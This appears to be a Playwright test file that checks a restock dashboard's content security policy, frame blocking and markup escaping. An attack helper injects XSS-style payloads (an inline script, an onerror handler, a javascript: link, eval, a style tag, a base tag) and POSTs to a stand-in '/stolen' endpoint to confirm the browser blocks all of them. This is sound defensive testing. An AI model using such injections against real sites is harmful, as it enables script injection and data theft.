import { connectSources, securityHeaders } from '../../scripts/headers/policy.ts';
import type { Product } from '../catalogue.ts';
import { expect, type Page, test } from '../fixtures.ts';
import { INJECTIONS } from '../injections.ts';
import { heading } from '../pages/shell.ts';
import { productDrawer, StockRow } from '../pages/stock-page.ts';

test('everything comes with the policy, and the policy names this backend alone', async ({ restock, request }) => {
  const expected = Object.entries(securityHeaders({ connect: connectSources(restock.outputs) }));
  const page = await (await request.get(restock.dashboardUrl)).text();
  const script = /src="([^"]+\.js)"/.exec(page)?.[1] ?? '';
  for (const path of [
    '/',
    '/purchase-orders?order=1',
    '/no/such/page',
    '/favicon.svg',
    '/amplify_outputs.json',
    script,
  ]) {
    const headers = (await request.get(restock.dashboardUrl + path)).headers();
    for (const [name, value] of expected) expect(headers[name.toLowerCase()], `${name} of ${path}`).toBe(value);
  }
  const caching = async (path: string) => (await request.get(restock.dashboardUrl + path)).headers()['cache-control'];
  expect(await caching(script)).toContain('immutable');
  for (const path of ['/', '/amplify_outputs.json', '/assets/gone-12345678.js']) {
    expect(await caching(path), path).not.toMatch(/max-age|immutable/);
  }
  expect(page).not.toMatch(/<script(?![^>]*\ssrc=)|<style|\son\w+=|style=/);
});

/** What somebody would do who had got a piece of markup or a line of script into the page. */
async function attack(page: Page, elsewhere: string): Promise<{ ran: string[] }> {
  return page.evaluate(async (address) => {
    const ran: string[] = [];
    Object.assign(window, { ran });
    const add = (name: string, attributes: Record<string, string>, text = '') => {
      const element = Object.assign(document.createElement(name), { textContent: text });
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
      return element;
    };
    add('script', {}, 'window.ran.push("inline script")');
    add('script', { src: `data:text/javascript,window.ran.push("data script")` });
    add('img', { src: `${address}/pixel.png`, onerror: 'window.ran.push("handler")' });
    add('a', { href: 'javascript:window.ran.push("javascript address")' }).click();
    add('style', {}, 'body { --stolen: yes }');
    add('div', { style: '--marked: yes', id: 'styled' });
    if (getComputedStyle(document.body).getPropertyValue('--stolen')) ran.push('style element');
    if (document.getElementById('styled')?.style.length) ran.push('style attribute');
    add('base', { href: `${address}/` });
    if (!document.baseURI.startsWith(location.origin)) ran.push('base');
    add('iframe', { src: `${address}/frame` });
    // Later: what the debugger itself calls may evaluate whatever the policy says.
    await new Promise<void>((done) => {
      setTimeout(() => {
        try {
          // biome-ignore lint/security/noGlobalEval: whether it is forbidden is the question.
          ran.push(String(globalThis.eval('"eval"')));
        } catch {}
        done();
      });
    });
    await fetch(`${address}/stolen`, { method: 'POST', body: 'x' }).then(
      () => ran.push('fetch'),
      () => {},
    );
    const form = add('form', { action: `${address}/form`, method: 'post' }) as HTMLFormElement;
    form.submit();
    return { ran };
  }, elsewhere);
}

test('what is injected into a page neither runs nor reaches anybody', async ({ restock, open, violations }) => {
  const page = await open('viewer', '/stock');
  await expect(heading(page, 'Stock')).toBeVisible();
  // Another server of this machine: nothing but the policy keeps the page from it.
  const elsewhere = restock.dashboardUrl.replace('127.0.0.1', 'localhost');
  const reached: string[] = [];
  page.on('response', (response) => {
    if (response.url().startsWith(elsewhere)) reached.push(response.url());
  });
  expect(violations.take()).toEqual([]);
  expect((await attack(page, elsewhere)).ran).toEqual([]);
  // The form is sent last; the page and its console each tell of it.
  await expect.poll(() => violations.peek().filter((one) => one.includes('form-action')).length).toBeGreaterThan(1);
  const found = violations.take().join('\n');
  for (const directive of [
    'script-src-elem',
    'script-src-attr',
    'style-src-elem',
    'style-src-attr',
    'img-src',
    'connect-src',
  ]) {
    expect(found).toContain(directive);
  }
  expect(found).toMatch(/base-uri/);
  expect(found).toMatch(/frame-src/);
  expect(reached).toEqual([]);
  expect(page.url()).toBe(`${restock.dashboardUrl}/stock`);
});

test('no other page can show the dashboard in a frame', async ({ restock, open, violations }) => {
  const page = await open('stranger', 'about:blank');
  await page.setContent(`<iframe src="${restock.dashboardUrl}/"></iframe>`);
  const frame = page.frames().find((one) => one !== page.mainFrame());
  await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
  await expect(page.frameLocator('iframe').getByRole('form', { name: 'Sign in' })).toHaveCount(0);
  // The browser may or may not tell its own page why.
  violations.take();
});

test('a drawer holds the page behind it, and lets it go', async ({ restock, open }) => {
  const product = await restock.addProduct({ name: 'Held lamp', available: 9, reorderPoint: 3 });
  const page = await open('viewer', `/stock?q=${product.id}`);
  const overflow = () => page.evaluate(() => getComputedStyle(document.documentElement).overflowY);
  const before = await overflow();
  await new StockRow(page, product).open();
  await expect(productDrawer(page, product)).toBeVisible();
  expect(await overflow()).toBe('hidden');
  await page.keyboard.press('Escape');
  await expect(productDrawer(page, product)).toBeHidden();
  await expect.poll(overflow).toBe(before);
});

const MARKUP = INJECTIONS.slice(0, 50).filter(({ text }) => /^["'<&[!`$=@]\S/.test(text));
const FIRST = MARKUP[0]?.word ?? '';
/** The Overview lists six alerts and six orders, of which products hangs on what came when; all other pages list all. */
const ANY = new RegExp(MARKUP.map(({ word }) => word).join('|'));

test('a product whose name is markup is shown as it is called, on every page', async ({ restock, open }) => {
  test.slow();
  expect(MARKUP.length).toBeGreaterThan(15);
  const products: Product[] = [];
  for (const { text } of MARKUP) {
    products.push(await restock.addProduct({ name: text, available: 1, reorderPoint: 3 }));
  }
  const page = await open('manager', 'about:blank');
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  for (const path of ['/', '/stock', '/alerts', '/purchase-orders', '/reservations', '/simulator']) {
    await page.goto(path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.getByText(path === '/' ? ANY : FIRST).first()).toBeAttached();
    expect(
      await page.locator('script:not([src]), iframe, meta[http-equiv], img[onerror], svg[onload], style').count(),
    ).toBe(0);
  }
  for (const product of products.slice(0, 4)) {
    await page.goto(`/stock?q=${product.id}`);
    await new StockRow(page, product).open();
    await expect(productDrawer(page, product)).toBeVisible();
  }
  expect(dialogs).toEqual([]);
});
